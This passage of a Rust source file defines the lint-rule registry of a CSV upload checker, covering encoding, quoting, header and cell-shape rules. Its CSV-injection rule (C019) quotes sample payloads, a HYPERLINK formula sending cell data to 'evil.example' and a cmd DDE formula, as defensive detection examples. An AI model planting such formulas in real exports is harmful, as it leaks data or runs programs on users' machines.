//! The lint-rule registry: every finding bdxlint can report, written once.
//!
//! Codes are stable and grouped by family: `F` file and encoding, `Q` CSV
//! quoting and row structure, `H` header, `C` cell shapes, `K` conditions
//! between cells of a row, `J` grammars inside JSON cells, `X` consistency
//! across rows, `B` ZIP bundles and references between files (inside a bundle,
//! or across the files of one run). The same text feeds `bdxlint explain`,
//! the README rule table and machine outputs.

use serde::{Deserialize, Serialize};

/// How serious a finding is. Ordered: `Info < Warning < Error`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Warning,
    Error,
}

impl Severity {
    pub fn as_str(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Warning => "warning",
            Severity::Error => "error",
        }
    }
}

impl std::fmt::Display for Severity {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // `pad`, not `write_str`: tables (`bdxlint rules`) align it with `{:<8}`.
        f.pad(self.as_str())
    }
}

#[derive(Debug, PartialEq, Eq)]
pub struct Rule {
    pub code: &'static str,
    /// Kebab-case, names what is flagged.
    pub name: &'static str,
    pub severity: Severity,
    pub summary: &'static str,
    /// What it does / Why it matters / Example.
    pub explanation: &'static str,
    /// The spec section (or general CSV practice) the rule enforces.
    pub spec: &'static str,
    /// Whether its findings can carry a fix, and what the fix does.
    pub fix: Option<FixDoc>,
    /// Its findings' message, for a rule whose message has a fixed shape:
    /// `{name}` marks a value each finding fills in (see [`fill`]).
    pub(crate) message: Option<&'static str>,
    /// Its findings' help, for a rule whose help has a fixed shape.
    pub(crate) help: Option<&'static str>,
}

impl Rule {
    /// The message its findings carry, with `{name}`s where the check
    /// fills in the file's values; `None` when the check words it per
    /// case.
    pub fn message_template(&self) -> Option<&'static str> {
        self.message
    }

    /// The help its findings carry, templated as the message is.
    pub fn help_template(&self) -> Option<&'static str> {
        self.help
    }
}

/// `template` with each `{name}` that `values` names replaced by its
/// value, in one pass (a value is not read again for names). Other braces
/// stay as they are.
pub(crate) fn fill(template: &str, values: &[(&str, &str)]) -> String {
    let mut out = String::with_capacity(template.len() + 16);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let value = after.find('}').and_then(|close| {
            let name = &after[..close];
            let v = values.iter().find(|(n, _)| *n == name)?.1;
            Some((v, close))
        });
        match value {
            Some((v, close)) => {
                out.push_str(v);
                rest = &after[close + 1..];
            }
            None => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The text of an optional template.
macro_rules! template {
    () => {
        None
    };
    ($text:literal) => {
        Some($text)
    };
}

/// How often a rule's findings carry a fix (ruff's "Fix is always/sometimes
/// available").
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FixAvailability {
    Always,
    Sometimes,
}

/// Whether a rule's fixes are safe, unsafe, or either depending on the
/// finding (the applicability its findings' fixes carry).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FixSafety {
    Safe,
    Unsafe,
    /// Some findings' fixes are safe, others' unsafe.
    Both,
}

impl FixSafety {
    pub fn as_str(self) -> &'static str {
        match self {
            FixSafety::Safe => "safe",
            FixSafety::Unsafe => "unsafe",
            FixSafety::Both => "both",
        }
    }
}

/// What a rule's fix does, for `explain`, `rules` and SARIF.
#[derive(Debug, PartialEq, Eq)]
pub struct FixDoc {
    pub availability: FixAvailability,
    pub safety: FixSafety,
    /// Which findings get a fix, what it writes, and whether it is safe.
    pub text: &'static str,
}

impl FixDoc {
    /// "Fix is always available" or "Fix is sometimes available".
    pub fn headline(&self) -> &'static str {
        match self.availability {
            FixAvailability::Always => "Fix is always available",
            FixAvailability::Sometimes => "Fix is sometimes available",
        }
    }
}

macro_rules! fix_doc {
    () => {
        None
    };
    ($avail:ident $safety:ident $text:literal) => {
        Some(FixDoc {
            availability: FixAvailability::$avail,
            safety: FixSafety::$safety,
            text: $text,
        })
    };
}

macro_rules! rules {
    ($( $ident:ident = $code:literal, $name:literal, $sev:ident, $spec:literal, $summary:literal, $expl:literal $(, fix $avail:ident $safety:ident $fixdoc:literal)? $(, message $msg:literal)? $(, help $help:literal)?; )*) => {
        $( pub static $ident: Rule = Rule {
            code: $code,
            name: $name,
            severity: Severity::$sev,
            summary: $summary,
            explanation: $expl,
            spec: $spec,
            fix: fix_doc!($($avail $safety $fixdoc)?),
            message: template!($($msg)?),
            help: template!($($help)?),
        }; )*
        /// Every rule, in code order.
        pub static ALL: &[&Rule] = &[$(&$ident),*];
    };
}

rules! {
    EMPTY_FILE = "F001", "empty-file", Error, "Resources and their fields",
        "The file has no header row",
        "What it does: flags a file that is empty or holds only whitespace.\n\
         Why it matters: every format starts with a header row naming its columns; the platform rejects a file without one.\n\
         Example: a 0-byte `employees.csv`. Fix: write the header row (`bdxlint template employees`).";
    UTF8_BOM = "F002", "utf8-bom", Warning, "CSV practice",
        "The file starts with a UTF-8 byte-order mark",
        "What it does: warns about a UTF-8 BOM (EF BB BF) before the header.\n\
         Why it matters: bdxlint and many parsers skip it, but a strict reader (Go's `encoding/csv`, which the platform most likely uses, among them) makes the first column name `\\u{feff}Employee ID`, which then matches no column: the same risk as a header name in another case (`column-name-variant`), so the same severity.\n\
         Example: a file saved by Excel as \"CSV UTF-8\". Fix: save as plain CSV (UTF-8 without BOM).",
        fix Always Safe "Safe: removes the three bytes of the byte-order mark.",
        message "the file starts with a UTF-8 byte-order mark",
        help "bdxlint skips it; save without BOM if the upload rejects the first column";
    INVALID_UTF8 = "F003", "invalid-utf8", Error, "CSV practice",
        "Bytes that are not valid UTF-8",
        "What it does: points at the first byte of every cell that is not valid UTF-8.\n\
         Why it matters: the platform reads UTF-8; Latin-1 or Windows-1252 text turns into replacement characters or a rejected file.\n\
         Example: `Jos\\xe9` (Latin-1 é). Fix: re-save the file as UTF-8.";
    UNSUPPORTED_ENCODING = "F004", "unsupported-encoding", Error, "CSV practice",
        "The file is UTF-16 or UTF-32, not UTF-8",
        "What it does: detects a UTF-16 or UTF-32 byte-order mark and stops checking the file.\n\
         Why it matters: the uploads are UTF-8 CSV; a UTF-16 file is unreadable to the platform.\n\
         Example: a file exported as \"Unicode text\" from Excel. Fix: save as CSV UTF-8.",
        message "the file is {encoding}, not UTF-8",
        help "save the file as CSV UTF-8";
    MIXED_LINE_ENDINGS = "F005", "mixed-line-endings", Warning, "CSV practice",
        "Rows end with both CRLF and LF",
        "What it does: reports the first line whose ending differs from the first row's (CRLF vs LF).\n\
         Why it matters: mixed endings usually mean two files were pasted together; some readers then keep a stray `\\r` in the last cell.\n\
         Example: rows 1-10 end in CRLF, rows 11-20 in LF. Fix: normalise line endings.",
        fix Sometimes Safe "Safe: rewrites the file with every row's line ending the most common one (a tie keeps the header's); line breaks inside quoted cells are content and stay. A whole-file rewrite: JSON shows it with no edits, SARIF with no fix. Refused while a record reads two ways (a record with a quoting problem or a carriage return outside quotes): `--fix` then reports the finding with no fix, saying which line and why.",
        message "line {line} ends with {found}; earlier lines end with {want}",
        help "use {want} line endings throughout";
    DEPRECATED_FORMAT = "F006", "deprecated-format", Warning, "Versioning",
        "The format is deprecated",
        "What it does: warns once per file of a deprecated upload format.\n\
         Why it matters: the entity relations upload is deprecated in favour of the entities-bulk ZIP (POST /entities-bulk/upload-url) and may go away.\n\
         Example: uploading `relations.csv` through /entity-relations/upload-url. Fix: send entities and relations together as an entities-bulk ZIP.",
        message "the {format} format is deprecated";
    CR_LINE_ENDINGS = "F007", "cr-line-endings", Error, "CSV practice",
        "Lines end with a lone CR",
        "What it does: detects a header row cut by carriage returns (`\\r`) not followed by a line feed, the line ending of classic Mac OS, and stops checking the file.\n\
         Why it matters: RFC 4180 readers, the platform's included, see the whole file as one line.\n\
         Example: a file exported by an old spreadsheet on a Mac. Fix: save with LF or CRLF line endings.",
        message "lines end with a lone CR (classic Mac OS line endings)",
        help "save the file with LF or CRLF line endings";
    UNKNOWN_FORMAT = "F008", "unknown-format", Warning, "Resources and their fields",
        "A CSV file a directory walk found is of no format bdxlint knows",
        "What it does: flags a `.csv` file a directory walk found, that no `--format` or override names, whose header fits no format, several, or one only weakly; it is not checked further. Strong evidence is: every column the format requires, or at least 3 of the header's names (and half of them) the format's, or a file name that says the format (`q3-employees.csv`). A file named on the command line is checked as the format it fits, or is exit 2 if none.\n\
         Why it matters: a CSV of another kind (a report, a test fixture) in a repository is not an upload and should not fail the run, but one whose header is so damaged that no format fits may be an upload that would be refused.\n\
         Example: `docs/metrics.csv` with the header `Month,Count`, or `date,value` (one name of rbac2), in `bdxlint check .`. Fix: exclude it (`exclude`, `--extend-exclude`), or name its format (`--format`, an `[[overrides]]` entry, its file name).";
    NUL_BYTE = "F009", "nul-byte", Warning, "CSV practice",
        "A cell holds a NUL byte",
        "What it does: flags each cell that holds a NUL byte (0x00), once per cell, at the first one; the message counts them.\n\
         Why it matters: the spec says nothing about control characters, and Go's CSV reader keeps a NUL as an ordinary byte, so the upload may accept it; but a NUL in text is almost always damage (binary data pasted in, a file padded with zeros, UTF-16 text read as bytes), and many stores refuse it (a PostgreSQL text value cannot hold one), so the value may not arrive as written.\n\
         Example: `Ada<NUL>Lovelace` in `Full Name`. Fix: delete the NUL bytes; if every other byte is NUL, the file is UTF-16: save it as CSV UTF-8.";
    DELIMITER = "F010", "delimiter", Error, "Resources and their fields",
        "The file separates fields with `;`, a tab or `|`, not commas",
        "What it does: tells the delimiter from the header and the first rows (the first 64 KiB): when commas do not give every one of them the same number of fields (two or more) and exactly one of `;`, TAB or `|` does, with more fields than commas give, it reports that delimiter once and reads the file with it, so the other findings (format detection included) are about its cells. A comma file whose cells hold `;` (lists, JSON, prose) is never taken for a `;` file: its comma fields are consistent, or its `;` fields are not.\n\
         Why it matters: the uploads are CSV, comma-separated; the platform reads a `;` file's whole header as one unknown column and rejects every row. Excel saves `;` files in locales whose decimal separator is the comma.\n\
         Example: `Employee ID;Work Email;First Name`. Fix: save the file as \"CSV UTF-8 (Comma delimited)\", or change the list separator of the system's region settings before saving.",
        fix Sometimes Safe "Safe: rewrites the file with commas, read in the delimiter found (exactly one fits the header and the rows): fields are copied as they are, quoted where they hold a comma, now meaningful; a `sep=` line is left out, a BOM and line endings stay. Refused while a record reads two ways (a record with a quoting problem or a carriage return outside quotes, or another number of fields than the header's) or the rewritten file would tell another delimiter: `--fix` then reports the finding with no fix, saying which line and why.",
        message "the file uses {delimiter} as its delimiter; the platform reads commas",
        help "save the file as comma-separated CSV (Excel: Save As, \"CSV UTF-8 (Comma delimited)\"); bdxlint read it with {delimiter} to check the rest";
    SEP_LINE = "F011", "sep-line", Error, "Resources and their fields",
        "The file starts with Excel's `sep=` line",
        "What it does: flags a first line `sep=X` (X one of `,` `;` TAB `|`, after a BOM if any), the hint with which Excel opens a file in the right dialect, and skips it: the header is the next line, and X is the delimiter the rest is read with (another than the comma is also `delimiter`).\n\
         Why it matters: \"each CSV has a header row of column names\"; the platform reads `sep=,` as the header, a single unknown column, and rejects the file.\n\
         Example: a first line `sep=,` above `Employee ID,Work Email,...`. Fix: delete the first line.",
        fix Sometimes Safe "Safe: deletes the `sep=,` line; a `sep=` naming another delimiter rewrites the whole file with commas, which leaves the line out (refused as `delimiter`'s rewrite is).",
        message "the first line `{line}` is Excel's delimiter hint, not the header; the platform reads it as the header",
        help "delete the first line, so that the header row comes first (bdxlint skipped it)";
    NOT_UTF8 = "F012", "not-utf8", Error, "CSV practice",
        "The file is in a legacy 8-bit encoding, not UTF-8",
        "What it does: decides once whether the file is UTF-8, from the non-ASCII bytes of its first 64 KiB, or of its first non-ASCII line if those have none (a BOM makes it UTF-8): bytes above 0x7F that form no UTF-8 character make it a legacy 8-bit file, reported once at the end with the likely encoding (Windows-1252 when bytes 0x80-0x9F occur, printable only there), the count of bytes that are not UTF-8, their lines, and the first ones. The rest is read decoded as Windows-1252, so other findings are real; spans stay the file's bytes. A UTF-8 file with a few bad bytes gets `invalid-utf8` per cell instead.\n\
         Why it matters: the platform reads UTF-8; `José` saved as Windows-1252 arrives as `Jos\\u{FFFD}` or fails the upload.\n\
         Example: a file saved by Excel as \"CSV (Comma delimited)\" on Windows, with `Müller` in it. Fix: save it as \"CSV UTF-8 (Comma delimited)\", or convert it: `iconv -f WINDOWS-1252 -t UTF-8 in.csv > out.csv`.",
        fix Sometimes Unsafe "Unsafe (the encoding is a guess): rewrites the whole file as UTF-8, every byte read as Windows-1252 (the five bytes it leaves undefined as Latin-1's C1 controls); ASCII bytes, quoting and line endings stay. Refused, as every whole-file rewrite is, while a record reads two ways (a record with a quoting problem or a carriage return outside quotes).";
    NOT_CSV = "F013", "not-csv", Error, "What the service does",
        "The file is not a CSV file (a ZIP, an Excel workbook, a PDF, gzip)",
        "What it does: tells from the first bytes a file that is not CSV text (a ZIP archive, an Excel workbook (.xlsx: a ZIP with `xl/` parts; .xls: an OLE2 file), an OpenDocument spreadsheet, a PDF, gzip) and says what it is and how to make a CSV of it, as the file's one finding: nothing else is checked. UTF-16 and UTF-32 text is `unsupported-encoding`. A `.zip` path is a bundle and keeps its ZIP checks.\n\
         Why it matters: \"the body is the file: a CSV in the format of that resource\"; the platform cannot read a workbook or an archive as CSV, and reading one as CSV text gives findings about bytes that are not rows (a bare quote, a header that fits no format).\n\
         Example: `employees.csv` that is really an `.xlsx` renamed. Fix: open it in Excel and save it as \"CSV UTF-8 (Comma delimited)\".";
    UNTERMINATED_QUOTE = "Q001", "unterminated-quote", Error, "CSV practice (RFC 4180)",
        "A quoted field is never closed",
        "What it does: points at the opening quote of a field whose closing quote never comes.\n\
         Why it matters: everything after the quote, to the end of the file, is read as one cell.\n\
         Example: `\"Ada,ada@example.com` . Fix: close the quote, and double any quote inside the field (`\"\"`).";
    BARE_QUOTE = "Q002", "bare-quote", Error, "CSV practice (RFC 4180)",
        "A quote inside an unquoted field",
        "What it does: flags a `\"` that appears in the middle of a field that does not start with a quote.\n\
         Why it matters: strict readers (like the platform's) reject the row; lenient ones read the rest of the line, or file, as one cell.\n\
         Example: `The \"A\" team` unquoted. Fix: quote the field and double the inner quotes: `\"The \"\"A\"\" team\"`.";
    TEXT_AFTER_QUOTE = "Q003", "text-after-quote", Error, "CSV practice (RFC 4180)",
        "Characters between a closing quote and the next delimiter",
        "What it does: flags text right after a field's closing quote.\n\
         Why it matters: strict readers reject the row; the text usually means an inner quote was not doubled.\n\
         Example: `\"Ada \"the countess\" Lovelace\"`. Fix: double inner quotes: `\"Ada \"\"the countess\"\" Lovelace\"`.";
    FIELD_COUNT = "Q004", "field-count", Error, "CSV practice (RFC 4180)",
        "A row has more or fewer fields than the header",
        "What it does: compares each row's field count with the header's and names both counts. The row's cells are not checked further, since they may have shifted.\n\
         Why it matters: the platform rejects ragged rows; an extra field usually means an unquoted comma in a value.\n\
         Example: `Ada,Lovelace, PhD,ada@example.com` against a 3-column header. Fix: quote values that contain commas.";
    EMPTY_ROW = "Q005", "empty-row", Error, "Resources and their fields",
        "A row holds only delimiters",
        "What it does: flags a row whose fields are all empty or spaces (`,,,,` or `, , ,`), once for the row; the row gets no other finding (no field count, no empty required cell, no duplicate row) and takes no part in the cross-row rules. Blank lines are skipped, as every CSV reader skips them.\n\
         Why it matters: \"a column marked `*` is required on every row\", so the platform rejects the row; a spreadsheet writes such rows for formatted but empty lines below the data.\n\
         Example: `,,,,,,` at line 40 of an employees export. Fix: delete the row (in the spreadsheet, delete the empty rows below the data before saving).";
    MISSING_REQUIRED_COLUMN = "H001", "missing-required-column", Error, "Resources and their fields",
        "The header lacks a required column",
        "What it does: lists each column marked required (`*`) in the spec that the header does not name.\n\
         Why it matters: the platform rejects the file.\n\
         Example: an employees header without `Start Date`. Fix: add the column (`bdxlint template FORMAT` prints a full header).",
        message "the header has no `{column}` column",
        help "add the `{column}` column; the {format} format requires it";
    MISSING_RECOMMENDED_COLUMN = "H002", "missing-recommended-column", Warning, "Resources and their fields",
        "The header lacks a column the spec asks for",
        "What it does: lists columns whose presence the spec contradicts itself about (Filters `Status`: \"header marks it required; definition says optional\"; see rules/README.md).\n\
         Why it matters: one reading of the spec requires the column, the other does not; a missing one may be rejected.\n\
         Example: a filters header without `Status`. Fix: add the column; its cells may stay empty.",
        message "the header has no `{column}` column",
        help "add the `{column}` column; the {format} format asks for it";
    UNKNOWN_COLUMN = "H003", "unknown-column", Warning, "Resources and their fields",
        "The header names a column the format does not have",
        "What it does: flags header names that match no column of the format, including empty names.\n\
         Why it matters: the platform ignores unknown columns, so their data is silently lost; often the file is of another format.\n\
         Example: `Nickname` in an employees file. Fix: remove the column, or pick the right `--format`.",
        fix Sometimes Safe "Safe, for unnamed columns that end the header and are empty in every row (a trailing comma a spreadsheet saved): removes them, with the delimiter before each, from the header and every row. None for a named unknown column: its data may matter. Refused while a row reads two ways (a record with a quoting problem or a carriage return outside quotes, or another number of fields than the header's: its cells have shifted) or holds a value in a column that would go: `--fix` then reports the finding with no fix, saying which line and why.";
    DUPLICATE_COLUMN = "H004", "duplicate-column", Error, "Resources and their fields",
        "The header names a column twice",
        "What it does: flags the second and later occurrences of a header name (compared after trimming spaces, case and a trailing `*`).\n\
         Why it matters: only one of the two columns is read; which one is unspecified.\n\
         Example: `Email,Name,Email`. Fix: remove or rename the duplicate.",
        message "column {name} (field {field}) repeats {first} (field {first_field})",
        help "remove or rename one of the two columns";
    COLUMN_NAME_VARIANT = "H005", "column-name-variant", Warning, "Resources and their fields",
        "A header name differs from the spec's only by case, spaces or a trailing `*`",
        "What it does: flags header names that match a column once case, surrounding spaces and a trailing `*` (as in published templates, `Name*`) are ignored. The column is checked as the one it matches.\n\
         Why it matters: the spec states each name in one spelling but not how strictly the platform matches header names; its own tables write `Work Email*`. If matching is exact, the column is not found: a required column goes missing, an optional one's data is lost. So it is a warning, like a byte-order mark before the first name.\n\
         Example: `work email` or `Work Email*`. Fix: write the name exactly as the spec does: `Work Email`.",
        fix Always Safe "Safe: renames the column to the spec's spelling (the name differs only by case, spaces or a trailing `*`).";
    COLUMN_NAME_TYPO = "H006", "column-name-typo", Error, "Resources and their fields",
        "A header name looks like a misspelt column",
        "What it does: flags header names within a small edit distance of a column the header lacks, with \"did you mean\". The column is checked as the one it resembles, and is not also reported missing.\n\
         Why it matters: a misspelt column is an unknown column to the platform, and its data is lost or a required column is missing.\n\
         Example: `Work Emial`. Fix: correct the spelling.",
        fix Always Unsafe "Unsafe: renames the column to the suggested one (a guess: review it).";
    TOO_MANY_COLUMNS = "H007", "too-many-columns", Error, "Resources and their fields",
        "The header has more columns than any format could use",
        "What it does: stops at a header of more than 1,024 names, with this one finding, and checks the file no further. The widest format has 29 columns.\n\
         Why it matters: such a header is not one of the spec's formats, and checking it (a finding per unknown name, per row) would cost memory and time without bound; the file was not checked, so it cannot pass.\n\
         Example: a header of 1,000,000 names, or an export whose rows were joined into one line. Fix: write the format's header (`bdxlint template FORMAT`).",
        message "the header has {count} columns, more than the {max} bdxlint reads; the file was not checked",
        help "write the format's header (`bdxlint template FORMAT`)";
    UNNAMED_COLUMN_DATA = "H008", "unnamed-column-data", Error, "Resources and their fields",
        "A column without a header name holds data",
        "What it does: flags a header field with no name (empty, or only `*`) under which some row has a value, once, with the number of rows that do; it is known at the end of the file and reported there. An unnamed column that is empty in every row stays an `unknown-column` warning.\n\
         Why it matters: the platform maps cells to columns by header name; values under no name are lost, and usually mean the header lost a name (a deleted header cell) or the rows have a column the header does not.\n\
         Example: the header `Employee ID,Work Email,` (11 names, the last empty) while every row fills the 11th field. Fix: name the column, or remove the values.";
    EMPTY_REQUIRED_CELL = "C001", "empty-required-cell", Error, "Resources and their fields",
        "A required column has an empty cell",
        "What it does: flags empty (or whitespace-only) cells in columns marked required.\n\
         Why it matters: the platform rejects the row.\n\
         Example: an employees row with no `Work Email`. Fix: fill the cell.";
    INVALID_EMAIL = "C003", "invalid-email", Error, "Resources and their fields",
        "A cell is not an e-mail address",
        "What it does: checks e-mail columns for one `@`, a non-empty local part, a dotted domain and no spaces.\n\
         Why it matters: e-mails identify people and reviewers; a malformed one matches nobody.\n\
         Example: `ada.example.com`. Fix: write the full address, `ada@example.com`.";
    INVALID_DATE = "C004", "invalid-date", Error, "Resources and their fields",
        "A date does not have its column's shape or is not a real date",
        "What it does: checks date and date-time columns for their exact shape (digit counts included) and a real calendar date and time.\n\
         Why it matters: a date in the wrong shape is misread or rejected; `02/30/2024` does not exist.\n\
         Example: `3/7/2024` or `2024-03-07` in an employees Start Date. Fix: write `03/07/2024`.",
        fix Sometimes Both "For a date written year first (`2024-03-07`, `2024/3/7`, `20240307`), as two numbers and a year (`3/7/2024`, `25/03/2024`, `25.03.2024`, `3/7/24`) or with a month's name (`7-Mar-24`, `Mar 7, 2024`): rewrites it in the column's shape. A date that reads as two (`6/07/2019`) is read as its whole column is written: cells only one order makes a date show it. Safe where only one reading gives a date and nothing is guessed (year first; `03/25/2024` into `YYYY-MM-DD`), and for `3/7/2024` into `MM/DD/YYYY` in a column without day-first cells; unsafe for a two-digit year, where two readings do (`03/07/2024` into `YYYY-MM-DD`; any in a day-first column, read day first) or the only one contradicts the column (`25/3/2024` in `MM/DD/YYYY`); none in a column written both ways.";
    INVALID_BOOLEAN = "C005", "invalid-boolean", Error, "Resources and their fields",
        "A boolean cell is not true or false",
        "What it does: checks boolean columns for the format's spelling (`true`/`false`, or `TRUE`/`FALSE` in campaigns).\n\
         Why it matters: other values (`yes`, `1`) are rejected or misread.\n\
         Example: `yes` in Privilege Value. Fix: write `true` or `false`.";
    BOOLEAN_CASE = "C006", "boolean-case", Warning, "Resources and their fields",
        "A boolean is spelt in a different case than the format uses",
        "What it does: flags `True`, `TRUE`, `False`... where the format writes `true`/`false` (and the converse in campaigns).\n\
         Why it matters: lenient parsers accept them, a strict one may not.\n\
         Example: `TRUE` in Privilege Value. Fix: write `true`.",
        fix Always Safe "Safe: writes the format's spelling.";
    INVALID_INTEGER = "C007", "invalid-integer", Error, "Limits",
        "A cell is not an integer in its column's range",
        "What it does: checks integer columns for digits only (an optional `-`) and the allowed range.\n\
         Why it matters: \"Integer\" is a stated type, and campaigns' Reviewer Count is \"minimum 1, maximum 3\" (Limits): the platform rejects other values. Where a range is borrowed rather than stated (the integrations download's Reviewer Count), a value outside it is a warning.\n\
         Example: `4` or `two` in Reviewer Count. Fix: write an integer in range.";
    INVALID_ENUM = "C008", "invalid-enum", Error, "Resources and their fields",
        "A cell (or list element) is not one of its column's values",
        "What it does: checks enumerated columns and list elements against the values the spec allows, case-sensitively, suggesting the closest.\n\
         Why it matters: an unknown value is rejected or ignored.\n\
         Example: `approve` in Review Status. Fix: use one of the listed values, e.g. `approved`.",
        fix Sometimes Both "Safe where exactly one allowed value matches up to case (`Reviewer` → `reviewer`); unsafe for the suggestion of a near miss (`reviewr` → `reviewer`); none otherwise.";
    INVALID_LIST = "C009", "invalid-list", Error, "Resources and their fields",
        "A list cell has an empty or repeated element, or wrong braces",
        "What it does: checks comma-separated list cells for empty elements (`a,,b`, trailing commas), repeated elements, and `{...}` where the column requires or forbids them.\n\
         Why it matters: empty elements become empty IDs or roles; Reviewer Precedence must be written `{manager,primaryowner}`.\n\
         Example: `f1,,f2`. Fix: remove the empty element.";
    INVALID_INTEGRATION_REF = "C010", "invalid-integration-ref", Error, "Resources and their fields",
        "An integration reference is not `<app>/<integration_id>`",
        "What it does: checks integration reference columns for two non-empty parts separated by one `/`, without spaces.\n\
         Why it matters: the platform resolves the integration from both parts.\n\
         Example: `okta` or `okta/ 12`. Fix: write `okta/0b6c1e2a`.";
    INVALID_JSON = "C011", "invalid-json", Error, "Resources and their fields",
        "A JSON cell does not parse",
        "What it does: parses JSON cells and points at the first byte where parsing fails, mapped through CSV quote escaping to the file.\n\
         Why it matters: the platform cannot read the cell.\n\
         Example: `{'location': 1}` (single quotes). Fix: write JSON with double quotes; in CSV, quote the cell and double each inner quote.",
        fix Sometimes Unsafe "Unsafe: where the cell is JSON but for single quotes (and holds no double quote) or commas before a closing `}` or `]`, and the repair parses as the column's kind, rewrites the cell with the repair (quoted, inner quotes doubled). An apostrophe inside a single-quoted value gets no fix.";
    JSON_WRONG_TYPE = "C012", "json-wrong-type", Error, "Resources and their fields",
        "A JSON cell is not the object or array its column needs",
        "What it does: checks that a JSON cell's top-level value is an object or an array as the spec says.\n\
         Why it matters: e.g. Metadata is read as an object, Labels as an array.\n\
         Example: `[1,2]` in Metadata. Fix: wrap it in the expected type.";
    INVALID_BRN = "C013", "invalid-brn", Error, "Entities CSV (download)",
        "A resource name is not colon-separated",
        "What it does: checks BRN columns for at least three colon-separated segments, the first and last non-empty, without spaces (inner segments may be empty, as in an embedded AWS ARN).\n\
         Why it matters: BRNs address entities; a malformed one matches nothing.\n\
         Example: `brn:identity` or `brn:acme:`. Fix: keep the BRN exactly as downloaded.";
    INVALID_URL = "C014", "invalid-url", Error, "Playbook Templates CSV (upload)",
        "A URL cell is not a URL, or not an http(s) one",
        "What it does: checks URL columns for `<scheme>://` followed by a host (and an optional numeric port), without spaces: an error otherwise. A URL whose scheme is not `http` or `https` (`ftp://...`) is a warning.\n\
         Why it matters: the platform calls the URL of the playbook. The spec says \"URL\", not which scheme, so another scheme is only probably wrong.\n\
         Example: `playbooks.example.com/run`. Fix: write `https://playbooks.example.com/run`.";
    SURROUNDING_WHITESPACE = "C015", "surrounding-whitespace", Warning, "CSV practice",
        "A value with a fixed shape has leading or trailing spaces",
        "What it does: flags spaces around values of shaped columns (dates, e-mails, enums...). The trimmed value is checked for its shape.\n\
         Why it matters: a strict parser reads ` true` or `ada@example.com ` as invalid or as a different value.\n\
         Example: `reviewer ` in Platform Roles. Fix: remove the spaces.",
        fix Always Safe "Safe: removes the white space around the value (two deletions; a fix of the value itself applies with it).";
    SCIENTIFIC_NOTATION_ID = "C016", "scientific-notation-id", Error, "Resources and their fields",
        "An ID a spreadsheet turned into a number in scientific notation",
        "What it does: flags a cell of an identifier column (marked `identifier = true` in the format's table: Employee ID, User ID, Source ID, ID...) written as a number in scientific notation, `5.83231E+11`, and says how many digits survive.\n\
         Why it matters: a spreadsheet shows a long number in scientific notation and saves it as shown: `583231000042` becomes `5.83231E+11`, and the digits after the sixth significant one are gone, in the file and in the spreadsheet. The ID then matches no record, or the wrong one: data is lost (clause 3 of the severity principle).\n\
         Example: User ID `5.83231E+11`. Fix: export the IDs again from their source, and format the column as Text before pasting them into a spreadsheet (or import the CSV with the column typed as text).";
    SPREADSHEET_ERROR = "C017", "spreadsheet-error", Error, "Resources and their fields",
        "A cell holds a spreadsheet error value",
        "What it does: flags a cell of any known column that is exactly a spreadsheet's error value: `#N/A`, `#VALUE!`, `#REF!`, `#NAME?`, `#DIV/0!`, `#NULL!`, `#NUM!` (also `#SPILL!`, `#CALC!`, `#GETTING_DATA`, `#FIELD!`, `#BLOCKED!`, `#UNKNOWN!`, `#CONNECT!`, `#ERROR!`). In a shaped column it takes the place of the shape's own finding.\n\
         Why it matters: the cell was a formula that failed (a lookup that found nothing, a deleted reference) and the export wrote the error instead of a value; whatever the row should hold is not in the file, and a free-text column would store `#N/A` as the value.\n\
         Example: `#N/A` in User ID, from a VLOOKUP that found no match. Fix: correct the formula or fill the value by hand, then export again; remove the row if it has no value.";
    SPREADSHEET_DATE = "C018", "spreadsheet-date", Error, "Resources and their fields",
        "A date column holds a spreadsheet serial number or a reformatted date-time",
        "What it does: in date and date-time columns, recognises what a spreadsheet writes when it takes a cell for a date: a serial number (`44927`, days since 1899-12-30 in Excel's 1900 system, with a fraction for the time) or its own display of a date-time (`7/1/2024 9:00`, `2024-07-01 09:00:00` where the column wants another shape), and names the date it most likely stands for in the column's shape. It replaces `invalid-date` for those cells, at the same severity.\n\
         Why it matters: the column has a stated shape, and a serial number or a display format is not it: the platform rejects the row, or reads another date.\n\
         Example: Start Date `44927` in employees (2023-01-01). Fix: write `01/01/2023`; in the spreadsheet, format the column as Text, or with the custom format `mm/dd/yyyy`, before exporting.",
        fix Always Unsafe "Unsafe (the date is the most likely reading, not a certain one: the 1904 date system, or a number that was never a date, read otherwise): rewrites the cell as the date it names, in the column's shape.";
    FORMULA_LIKE_CELL = "C019", "formula-like-cell", Warning, "CSV practice (OWASP CSV injection)",
        "A text cell starts like a spreadsheet formula",
        "What it does: flags a cell of a free-text column that starts with `=`, `+`, `-`, `@`, a TAB or a carriage return, the characters OWASP's CSV-injection guidance lists, unless it is a number (`-5`, `+1.5`).\n\
         Why it matters: the platform takes the text as it is, but an export is often opened in a spreadsheet again, which runs such a cell as a formula: `=HYPERLINK(...)` leaks data when clicked, `=cmd|' /C calc'!A0` runs a program. The spec says nothing of it, so it is a warning.\n\
         Example: Name `=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")`. Fix: remove the leading character if it is not meant; if it is, prefix the cell with a single quote (`'=...`), which spreadsheets show as text.";
    DAY_FIRST_DATE = "C020", "day-first-date", Warning, "Resources and their fields",
        "A date that reads both ways in a column written day first",
        "What it does: in an `MM/DD/YYYY` column whose other cells read as dates only day first (`26/07/2021`), flags a valid cell whose numbers are both 12 or less and differ (`06/07/2019`), naming the cell that shows the order; in a column written both ways, names one cell of each. Nothing in a month-first or unknown column (the usual US file) nor in `YYYY-MM-DD` columns. The order is known at the column's end: a file of 8 MiB or less is checked again; a stream ends with an info note.\n\
         Why it matters: the platform accepts the cell and reads it month first (June 7), while the column's writer most likely meant 6 July. That is a strong inference, not a certainty: a warning.\n\
         Example: Start Date `06/07/2019` where line 9 has `26/07/2021`. Fix: write `07/06/2019` if 6 July is meant.",
